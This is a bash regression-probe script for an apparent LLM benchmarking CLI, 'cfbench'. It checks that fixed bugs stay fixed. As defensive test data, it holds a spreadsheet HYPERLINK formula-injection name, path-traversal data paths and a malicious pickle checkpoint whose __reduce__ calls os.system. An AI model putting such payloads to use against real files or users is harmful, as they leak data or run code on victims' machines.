#!/usr/bin/env bash
# Issue 22: rerun the probes of each fixed class and print one verdict line per probe.
#
#   bash benchmarks/probes_issue22.sh [probe ...]      # default: every probe below
#
# Run from the repository root with the cfbench to test on PYTHONPATH (or installed). Probes use only
# CPU and a scratch folder; none downloads anything. A verdict is FIXED when the command does what the
# issue asks, OPEN otherwise; the command and its last output lines are printed under each verdict.
set -u
PY=${PYTHON:-python}
W=$(mktemp -d)
trap 'umount "$W/ro" "$W/full" 2>/dev/null; rm -rf "$W"' EXIT

cf() { $PY -c 'from cfbench.cli import main; main()' "$@"; }
verdict() { if [ "$1" = 0 ]; then echo "FIXED  $2"; else echo "OPEN   $2"; fi; }

tiny() {  # a 2-layer random llama with SmolLM2's tokenizer (as tests/conftest.py's tiny_model), made once
  [ -d "$W/tiny" ] || $PY - "$W/tiny" 2>/dev/null <<'PYEOF'
import sys, torch
from transformers import AutoTokenizer, LlamaConfig, LlamaForCausalLM
from cfbench.models.checkpoint import resolve_checkpoint
tok = AutoTokenizer.from_pretrained(resolve_checkpoint("smollm2-135m").path)
torch.manual_seed(0)
cfg = LlamaConfig(vocab_size=len(tok), hidden_size=32, intermediate_size=64, num_hidden_layers=2, num_attention_heads=4,
                  num_key_value_heads=2, max_position_embeddings=2048, bos_token_id=tok.bos_token_id,
                  eos_token_id=tok.eos_token_id, tie_word_embeddings=True)
LlamaForCausalLM(cfg).save_pretrained(sys.argv[1]); tok.save_pretrained(sys.argv[1])
PYEOF
  echo "$W/tiny"
}

# one "error:" line and exit 2, naming $2
one_line() { [ "$1" = 2 ] && [ "$(grep -c . <<<"$3" | tr -d ' ')" -ge 1 ] && ! grep -q Traceback <<<"$3" && grep -q -- "$2" <<<"$3"; }

probe_csv_injection() {  # class 1
  printf 'dataset,version,metric,mode,"=HYPERLINK(""http://127.0.0.1:9/x?""&A1;""click"")"\nBoolQ,314797,accuracy,ppl,61.25\n' > "$W/oc.csv"
  cf import "$W/oc.csv" --results "$W/r1" >/dev/null 2>&1
  out=$(cf leaderboard --paper none --results "$W/r1" --format csv 2>&1)
  echo "$out" | grep -q "^\"'=HYPERLINK" ; verdict $? "1 leaderboard --format csv quotes a formula model name"
  out=$(cf runs --results "$W/r1" --format csv 2>&1)
  echo "$out" | grep -q "^\"\\?'=HYPERLINK" ; verdict $? "1 runs --format csv quotes a formula model name"
  out=$(cf leaderboard --paper none --results "$W/r1" --format json 2>&1)
  echo "$out" | grep -q '"name": "=HYPERLINK' ; verdict $? "1 leaderboard --format json keeps the name as it was"
}

probe_data_path_escape() {  # class 2
  m=$(tiny)
  mkdir -p "$W/tasks2" "$W/secret" "$W/data2/SuperGLUE/COPA"; cp -rL cfbench/task_configs/. "$W/tasks2/"
  echo '{"premise": "secret", "choice1": "a", "choice2": "b", "question": "cause", "label": 0}' > "$W/secret/secret.jsonl"
  for bad in "../secret/secret.jsonl" "$W/secret/secret.jsonl"; do
    sed "s#SuperGLUE/COPA/val.jsonl#$bad#" cfbench/task_configs/copa.yaml > "$W/tasks2/copa.yaml"
    out=$(CFBENCH_TASK_DIR="$W/tasks2" cf eval "$m" --tasks copa --data-dir "$W/data2" --results "$W/r2" 2>&1); rc=$?
    one_line $rc "stay inside" "$out"; verdict $? "2 task YAML data path $bad is refused in one line"; echo "$out" | tail -2 | sed "s/^/       /"
  done
}

probe_positive_logprob() {  # class 5: an OpenAI-compatible server that returns +5.0 per token
  m=$(tiny)
  mkdir -p "$W/data5/copa"
  echo '{"premise": "p", "choice1": "a", "choice2": "bb", "question": "cause", "label": 0}' > "$W/data5/copa/validation.jsonl"
  out=$($PY - "$m" "$W" 2>&1 <<'PYEOF'
import json, sys, threading, subprocess
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class H(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers()
        self.wfile.write(json.dumps({"data": [{"id": "fake", "max_model_len": 512}]}).encode())
    def do_POST(self):
        req = json.loads(self.rfile.read(int(self.headers["content-length"])))
        lps = [None] + [5.0] * (len(req["prompt"]) - 1)
        body = {"choices": [{"logprobs": {"token_logprobs": lps, "top_logprobs": [None] + [{"x": 5.0}] * (len(lps) - 1)}}]}
        self.send_response(200); self.send_header("content-type", "application/json"); self.end_headers()
        self.wfile.write(json.dumps(body).encode())
    def log_message(self, *a): pass
httpd = ThreadingHTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=httpd.serve_forever, daemon=True).start()
m, w = sys.argv[1:]
r = subprocess.run([sys.executable, "-m", "cfbench", "eval", m, "--tasks", "copa", "--backend", "openai", "--model-args",
                    f"base_url=http://127.0.0.1:{httpd.server_address[1]}/v1", "--data-dir", f"{w}/data5",
                    "--results", f"{w}/r5"], capture_output=True, text=True)
print(r.stdout[-300:], r.stderr[-400:]); sys.exit(r.returncode)
PYEOF
); rc=$?
  one_line $rc "above 0" "$out"; verdict $? "5 a server's log-prob of +5.0 per token is refused, nothing stored"; echo "$out" | tail -2 | sed "s/^/       /"
}

probe_n_boot() {  # class 3: two imported lm-eval runs, then the gate and compare at degenerate counts
  lm=$(ls tests/fixtures/imports/lmeval/org__tiny-sft/results_*.json | head -1)
  cf import "$lm" --name a --results "$W/r3" >/dev/null 2>&1; cf import "$lm" --name b --results "$W/r3" >/dev/null 2>&1
  for nb in 1 -5 0; do
    out=$(cf regress --baseline run:a --candidate run:b --suite offline --max-drop AVG=1 --n-boot $nb --results "$W/r3" 2>&1); rc=$?
    one_line $rc "n-boot" "$out"; verdict $? "3 regress --n-boot $nb is refused before scoring, naming the fix"; echo "$out" | tail -1 | sed "s/^/       /"
  done
  out=$(cf compare run:a run:b --suite offline --n-boot 1 --results "$W/r3" 2>&1); rc=$?
  one_line $rc "at least 40" "$out"; verdict $? "3 compare --n-boot 1 is refused (no starred one-replicate CIs)"
}

probe_arguments() {  # class 6: each must be one error line before the checkpoint is touched, nothing stored
  m=$(tiny)
  out=$(cf eval "$m" --tasks arc_challenge --num-fewshot -1 --limit 1 --results "$W/r6a" 2>&1); rc=$?
  one_line $rc "num-fewshot" "$out" && [ ! -e "$W/r6a" ]; verdict $? "6 eval --num-fewshot -1 is refused, nothing stored"
  out=$(cf eval "$m" --tasks "" --limit 1 --results "$W/r6b" 2>&1); rc=$?
  one_line $rc "names no task" "$out" && [ ! -e "$W/r6b" ]; verdict $? "6 eval --tasks '' is refused (not the whole suite)"
  out=$(cf compare "$m" "$m" --labels , --limit 1 --results "$W/r6c" 2>&1); rc=$?
  one_line $rc "is empty" "$out"; verdict $? "6 compare --labels , is refused (no empty row names)"
  out=$(cf eval "$m" --tasks copa --model-args bogus_key=1 --limit 1 --results "$W/r6d" 2>&1); rc=$?
  one_line $rc "batch_size, batch_tokens" "$out" && [ ! -e "$W/r6d" ]; verdict $? "6 eval --model-args bogus_key=1 is refused, listing the hf backend's keys"
  echo "$out" | tail -1 | sed "s/^/       /"
}

probe_dangling_part() {  # class 13
  lm=$(ls tests/fixtures/imports/lmeval/org__tiny-sft/results_*.json | head -1)
  cf import "$lm" --name a --results "$W/r13" >/dev/null 2>&1
  ln -s "$W/nowhere.parquet" "$W/r13/runs/part-dangling.parquet"
  out=$(cf runs --results "$W/r13" 2>&1); rc=$?
  one_line $rc "store check" "$out"; verdict $? "13 cfbench runs with a dangling part symlink is one line naming it"; echo "$out" | tail -1 | sed "s/^/       /"
}

probe_landscape_grid_span() {  # class 10 and 16 (--span nan)
  m=$(tiny)
  for args in "--grid 4" "--grid 3 --span nan"; do
    out=$(cf landscape "$m" $args --batches 1 --batch-size 2 --length 16 --data builtin:arithmetic --results "$W/r10" 2>&1); rc=$?
    flag=$(grep -o -- '--[a-z]*' <<<"$args" | tail -1)
    one_line $rc "$flag" "$out" && [ ! -e "$W/r10" ]; verdict $? "10/16 landscape $args is refused before any point is computed"; echo "$out" | tail -1 | sed "s/^/       /"
  done
}

probe_rho_inf() {  # class 16
  m=$(tiny)
  echo '{"instruction": "a", "input": "", "output": "b"}' > "$W/alpaca16.json"
  out=$(cf finetune "$m" --data "$W/alpaca16.json" --out "$W/ft16" --optimizer sam --rho inf 2>&1); rc=$?
  one_line $rc "--rho must be" "$out" && [ ! -e "$W/ft16" ]; verdict $? "16 finetune --rho inf names --rho before training"; echo "$out" | tail -1 | sed "s/^/       /"
}

probe_merge_nan() {  # class 9
  m=$(tiny)
  [ -d "$W/tiny_nan" ] || $PY - "$m" "$W/tiny_nan" <<'PYEOF'
import shutil, sys
from safetensors.torch import load_file, save_file
shutil.copytree(sys.argv[1], sys.argv[2]); f = sys.argv[2] + "/model.safetensors"
sd = load_file(f); k = sorted(sd)[-1]; sd[k] = sd[k].clone(); sd[k].view(-1)[0] = float("nan")
save_file(sd, f, metadata={"format": "pt"})
PYEOF
  out=$(cf merge "$m" "$W/tiny_nan" --alpha 0.5 --out "$W/merged9" 2>&1); rc=$?
  one_line $rc "non-finite" "$out" && [ ! -e "$W/merged9" ]; verdict $? "9 merge with a NaN tuned checkpoint is refused, nothing written"; echo "$out" | tail -1 | sed "s/^/       /"
}

probe_heldout_leak() {  # class 4
  m=$(tiny)
  $PY -c 'import json,sys; open(sys.argv[1],"w").writelines(json.dumps({"instruction": f"what is {i} plus {i}?", "input": "", "output": str(2*i)})+"\n" for i in range(80))' "$W/x4.jsonl"
  out=$(cf finetune "$m" --data "$W/x4.jsonl" --rehearsal "$W/x4.jsonl" --heldout 8 --max-steps 1 --batch-size 8 --out "$W/ft4" 2>&1); rc=$?
  n=$($PY -c 'import json,sys; print(json.load(open(sys.argv[1]))["rehearsal"].get("n_heldout_removed"))' "$W/ft4/cfbench_manifest.json" 2>&1)
  [ "$rc" = 0 ] && [ "$n" = 8 ]; verdict $? "4 finetune --data X --rehearsal X --heldout 8 removes the 8 from rehearsal (manifest n_heldout_removed=$n)"
}

probe_ctrl_c() {  # class 15: SIGINT during an eval
  m=$(tiny)
  out=$(set -m; $PY -m cfbench eval "$m" --tasks copa,boolq,rte --results "$W/r15" > /dev/null 2> "$W/err15" & pid=$!
        sleep 8; kill -INT $pid; wait $pid; echo "rc=$?"; cat "$W/err15")
  grep -q "rc=130" <<<"$out" && grep -q "^interrupted: .*rerun the same command to resume" <<<"$out"
  verdict $? "15 Ctrl-C during eval exits 130 saying what was kept and how to resume"; grep "^interrupted\|rc=" <<<"$out" | sed "s/^/       /"
}

probe_empty_outputs_and_nan_scores() {  # class 17
  m=$(tiny)
  $PY -c 'import json,sys; open(sys.argv[1],"w").writelines(json.dumps({"instruction": f"q{i}", "input": "", "output": ""})+"\n" for i in range(8))' "$W/empty17.jsonl"
  out=$(cf finetune "$m" --data "$W/empty17.jsonl" --max-steps 1 --out "$W/ft17" 2>&1); rc=$?
  one_line $rc "is empty" "$out" && [ ! -e "$W/ft17" ]; verdict $? "17 finetune on Alpaca data with every output empty is refused"
  lm=$(ls tests/fixtures/imports/lmeval/org__tiny-sft/results_*.json | head -1); mkdir -p "$W/lm17"
  $PY -c 'import json,sys; d=json.load(open(sys.argv[1])); t=next(k for k,e in d["results"].items() if "acc,none" in e); d["results"][t]["acc,none"]=float("nan"); json.dump(d, open(sys.argv[2],"w"))' "$lm" "$W/lm17/$(basename "$lm")"
  out=$(cf import "$W/lm17/$(basename "$lm")" --name nan17 --results "$W/r17" 2>&1); rc=$?
  one_line $rc "not a number" "$out"; verdict $? "17 lm-eval results with a NaN acc are refused, not silently dropped"; echo "$out" | tail -1 | sed "s/^/       /"
}

probe_swapped_weights() {  # class 8: NaN weights swapped in at the same size with the mtime restored
  m=$(tiny); cp -r "$m" "$W/tiny8"
  cf eval "$W/tiny8" --tasks copa --limit 2 --results "$W/r8" >/dev/null 2>&1
  $PY - "$W/tiny8/model.safetensors" <<'PYEOF'
import os, sys
from safetensors.torch import load_file, save_file
f = sys.argv[1]; st = os.stat(f); sd = load_file(f)
for k in sd: sd[k] = sd[k].clone().fill_(float("nan")) if sd[k].is_floating_point() else sd[k]
save_file(sd, f + ".new", metadata={"format": "pt"}); assert os.path.getsize(f + ".new") == st.st_size
os.replace(f + ".new", f); os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns))
PYEOF
  out=$(cf eval "$W/tiny8" --tasks copa --limit 2 --results "$W/r8" 2>&1); rc=$?
  one_line $rc "non-finite" "$out"; verdict $? "8 NaN weights swapped in (same size, mtime restored) are refused, not served from cache"; echo "$out" | tail -1 | sed "s/^/       /"
}

store_two_runs() {  # $1: a store with runs base and tuned on boolq and copa (100 items each, two items parts per
  # task, as the engine writes chunks); tuned forgets 30 boolq items (McNemar p ~ 1e-9), copa unchanged
  [ -d "$1" ] || $PY - "$1" <<'PYEOF2'
import sys
import pandas as pd
from cfbench.store import ResultStore, RunRecord, TaskScore
store = ResultStore(sys.argv[1])
for name, flip in (("base", 0), ("tuned", 30)):
    run, scores = RunRecord(name=name, checkpoint_name=name, checkpoint_hash=name, suite="offline"), []
    for task in ("boolq", "copa"):
        key = f"k:{name}:{task}"
        ok = [not (task == "boolq" and i < flip) and i < 80 for i in range(100)]
        for lo in (0, 50):
            ids = list(range(lo, lo + 50))
            store.append_items(pd.DataFrame({"cache_key": key, "task": task, "task_hash": "t", "doc_id": ids, "gold": 0,
                "pred": [0 if ok[i] else 1 for i in ids], "acc": [float(ok[i]) for i in ids],
                "logprobs": [[-1.0, -2.0]] * 50, "n_tokens": [[1, 1]] * 50, "is_greedy": [[True, False]] * 50}))
        scores.append(TaskScore(task=task, metric="acc", value=sum(ok) / 100, n_items=100, cache_key=key))
    store.append_run(run, scores)
PYEOF2
}

probe_n_boot_zero_no_stars() {  # class 3: --n-boot 0 means no CIs and no stars, task rows included, every format
  store_two_runs "$W/r3z"
  md=$(cf compare base tuned --suite offline --n-boot 0 --results "$W/r3z" 2>&1)
  js=$(cf compare base tuned --suite offline --n-boot 0 --format json --results "$W/r3z" 2>&1)
  cs=$(cf compare base tuned --suite offline --n-boot 0 --format csv --results "$W/r3z" 2>&1)
  grep -q -- "-30.00" <<<"$md" && ! grep -q -- "-30.00\*" <<<"$md" && ! grep -q '"significant": true' <<<"$js" \
    && ! grep -q ",True,30," <<<"$cs"
  verdict $? "3 compare --n-boot 0 stars no row (the boolq task row had a McNemar star), markdown/json/csv"
  grep "| boolq" <<<"$md" | head -1 | sed "s/^/       /"
}

probe_deleted_items_part() {  # class 7
  store_two_runs "$W/r7"
  rm "$(ls "$W"/r7/items/part-*.parquet | sed -n 7p)"  # tuned's copa items 0-49
  out=$(cf store check --results "$W/r7" 2>&1); rc=$?
  [ "$rc" = 1 ] && grep -q "scored 100 copa items but only 50 are stored" <<<"$out"
  verdict $? "7 store check names the run and task whose items part was deleted"; echo "$out" | tail -1 | cut -c1-160 | sed "s/^/       /"
  out=$(cf compare base tuned --suite offline --n-boot 50 --results "$W/r7" 2>&1); rc=$?
  one_line $rc "only 50 are stored" "$out"; verdict $? "7 compare refuses (one line) instead of turning copa, its category and AVG into n/a"
}

copa_data11() {
  mkdir -p "$W/data11/copa"
  echo '{"premise": "p", "choice1": "a", "choice2": "bb", "question": "cause", "label": 0}' > "$W/data11/copa/validation.jsonl"
}

probe_checkpoint_defects() {  # class 11: each must be one line before any work
  m=$(tiny); copa_data11
  ev() { cf eval "$@" --tasks copa --data-dir "$W/data11" --results "$W/r11" 2>&1; }
  $PY - "$m" "$W" <<'PYEOF2'
import json, os, shutil, sys, torch
from pathlib import Path
from safetensors.torch import load_file
m, w = Path(sys.argv[1]), Path(sys.argv[2])
for name, edit in (("mt", {"model_type": "llama9000"}), ("vocab", {"vocab_size": 1000})):
    shutil.copytree(m, w / name); cfg = json.loads((w / name / "config.json").read_text()); cfg.update(edit)
    (w / name / "config.json").write_text(json.dumps(cfg))
sd = load_file(m / "model.safetensors")
for name in ("legacy", "evil"):
    shutil.copytree(m, w / name); (w / name / "model.safetensors").unlink()
torch.save(sd, w / "legacy" / "pytorch_model.bin", _use_new_zipfile_serialization=False)
class Evil:
    def __reduce__(self): return (os.system, (f"touch {w}/pwned",))
torch.save({"model.embed_tokens.weight": Evil()}, w / "evil" / "pytorch_model.bin")
raw = (m / "model.safetensors").read_bytes(); (w / "huge.safetensors").write_bytes((2 * 1024**3).to_bytes(8, "little") + raw[8:])
(w / "cut.safetensors").write_bytes(raw[: len(raw) // 2])
PYEOF2
  out=$(ev "$W/mt"); one_line $? "does not know" "$out"; verdict $? "11 unknown model_type is one line"; echo "$out" | tail -1 | cut -c1-160 | sed "s/^/       /"
  out=$(ev "$W/vocab"); one_line $? "vocab_size 1000" "$out"; verdict $? "11 config vocab_size below the tokenizer's ids is one line"
  out=$(ev "$W/legacy"); rc=$?; [ "$rc" = 0 ]; verdict $? "11 a legacy-format pytorch_model.bin folder loads and scores"; echo "$out" | tail -1 | cut -c1-160 | sed "s/^/       /"
  out=$(ev "$W/evil"); one_line $? "holds more than tensors" "$out" && [ ! -e "$W/pwned" ]; verdict $? "11 a malicious pytorch_model.bin is one line (and never runs)"
  for raw in huge cut; do
    out=$(ev "$W/$raw.safetensors" --base "$m"); one_line $? "$raw.safetensors" "$out"; verdict $? "11 raw $raw.safetensors with --base is one line"
  done
  [ -d "$W/tiny_nan" ] || probe_merge_nan >/dev/null
  out=$(cf diff "$m" "$W/tiny_nan" --results "$W/r11d" 2>&1); one_line $? "non-finite" "$out"; verdict $? "11 diff against a NaN checkpoint names the tensor"; echo "$out" | tail -1 | cut -c1-160 | sed "s/^/       /"
}

probe_unwritable_output() {  # class 12: a read-only and a full (1 MB tmpfs) file system, mounted when permitted
  m=$(tiny); copa_data11; echo '{"instruction": "a", "input": "", "output": "b"}' > "$W/alpaca12.json"
  mkdir -p "$W/ro" "$W/full"
  if ! mount -t tmpfs -o ro,size=1m tmpfs "$W/ro" 2>/dev/null || ! mount -t tmpfs -o size=1m tmpfs "$W/full" 2>/dev/null; then
    umount "$W/ro" 2>/dev/null; echo "SKIP   12 (cannot mount a read-only / 1 MB tmpfs here: run as root)"; return
  fi
  for fs in ro full; do
    want=$([ $fs = ro ] && echo "cannot write in" || echo "needs about")
    out=$(cf merge "$m" "$m" --alpha 0.5 --out "$W/$fs/merged" 2>&1); one_line $? "$want" "$out"
    verdict $? "12 merge --out on a $fs file system is refused before merging"; echo "$out" | tail -1 | cut -c1-160 | sed "s/^/       /"
    t0=$(date +%s); out=$(cf finetune "$m" --data "$W/alpaca12.json" --max-steps 1 --out "$W/$fs/ft" 2>&1); rc=$?
    one_line $rc "$want" "$out"; verdict $? "12 finetune --out on a $fs file system is refused before training ($(( $(date +%s) - t0 )) s)"
    out=$(cf eval "$m" --tasks copa --limit 1 --data-dir "$W/data11" --results "$W/$fs/r" 2>&1); one_line $? "$want" "$out"
    verdict $? "12 eval --results on a $fs file system is refused before scoring"
  done
  umount "$W/ro" "$W/full"
}

probe_dead_writer_temps() {  # class 14: a save kill -9-ed mid-write, then a save into another folder
  m=$(tiny); mkdir -p "$W/a14"
  ( $PY - "$W/a14/ft" <<'PYEOF2'
import os, sys
from pathlib import Path
from cfbench.train._io import atomic_dir
with atomic_dir(Path(sys.argv[1])) as tmp:
    (tmp / "model.safetensors").write_bytes(b"0" * (1 << 20)); os.kill(os.getpid(), 9)
PYEOF2
    true; ) 2>/dev/null  # the subshell reaps the killed writer, so no "Killed" line
  left=$(ls -d "$W"/a14/.ft.tmp-* 2>/dev/null | head -1)
  cf merge "$m" "$m" --alpha 0.5 --out "$W/b14/merged" >/dev/null 2>&1
  [ -n "$left" ] && [ ! -e "$left" ]; verdict $? "14 a killed save's temp in one --out is removed by a later save into another folder"
  store_two_runs "$W/r14"; dead=$($PY -c 'import os; print(os.getpid())')
  echo partial > "$W/r14/items/.tmp-pid$dead-0123abcd.partial"
  out=$(cf store check --results "$W/r14" 2>&1); rc=$?
  cf store check --fix --results "$W/r14" >/dev/null 2>&1
  [ "$rc" = 1 ] && grep -q "tmp-pid$dead" <<<"$out" && [ ! -e "$W/r14/items/.tmp-pid$dead-0123abcd.partial" ]
  verdict $? "14 store check names a dead writer's temp part and --fix deletes it"
}

PROBES=(probe_csv_injection probe_data_path_escape probe_positive_logprob probe_n_boot probe_arguments probe_dangling_part
        probe_landscape_grid_span probe_rho_inf probe_merge_nan probe_heldout_leak probe_ctrl_c probe_empty_outputs_and_nan_scores probe_swapped_weights
        probe_n_boot_zero_no_stars probe_deleted_items_part probe_checkpoint_defects probe_unwritable_output probe_dead_writer_temps)
for p in "${@:-${PROBES[@]}}"; do "$p"; done
